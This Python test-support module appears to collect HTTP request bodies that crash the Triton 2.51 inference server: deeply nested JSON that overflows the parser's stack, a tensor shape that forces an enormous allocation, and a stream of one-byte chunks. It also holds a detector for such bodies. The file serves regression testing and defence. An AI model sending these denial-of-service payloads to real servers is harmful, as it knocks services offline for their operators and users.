"""Requests over HTTP that end Triton 2.51 itself, known, and left out of what is made up.

Each stands in docs/security.md, with the Triton that has it mended where there is one. tests/server/test_deadly.py
sends them: one that Triton survives does not belong here any more, nor there.
"""

from __future__ import annotations

import json
import math
import re
from collections.abc import Iterator

# Lists within each other of which Triton's parser has survived so many, where they are not closed.
DEEPEST = 100_000
# Bytes that a shape may ask for.
LARGEST = 1 << 28
_SHAPE = re.compile(rb'"shape"\s*:\s*\[([\d\s,]+)\]')


def nested_data(tensor: str, depth: int) -> bytes:
    """A request whose one number lies within so many lists: Triton reads them by calling itself.

    37,000 were survived, and 40,000 were not, with the 8 MiB that a thread's stack usually has.
    """
    whole = json.dumps({"inputs": [{"name": tensor, "datatype": "FP32", "shape": [1, 3, 8, 8], "data": 0}]})
    return whole.replace('"data": 0', f'"data": {"[" * depth}0{"]" * depth}').encode()


def shape_beyond_memory(tensor: str) -> bytes:
    """A request whose shape is of more than there is: Triton takes room for it before it counts the numbers."""
    one = {"name": tensor, "datatype": "UINT8", "shape": [2**32, 416, 416, 3], "data": [1]}
    return json.dumps({"inputs": [one]}).encode()


def small_chunks(count: int = 600_000) -> Iterator[bytes]:
    """A body in chunks of one byte: for each of them Triton takes 16 bytes of a thread's stack."""
    yield from (b"1\r\n \r\n" * 1000 for _ in range(count // 1000))
    yield b"0\r\n\r\n"


def is_deadly(body: bytes) -> bool:
    """Whether a body is one of these, or near to it."""
    asked = (math.prod(map(int, re.findall(rb"\d+", sizes))) for sizes in _SHAPE.findall(body))
    return body.count(b"[") > DEEPEST or any(8 * count > LARGEST for count in asked)
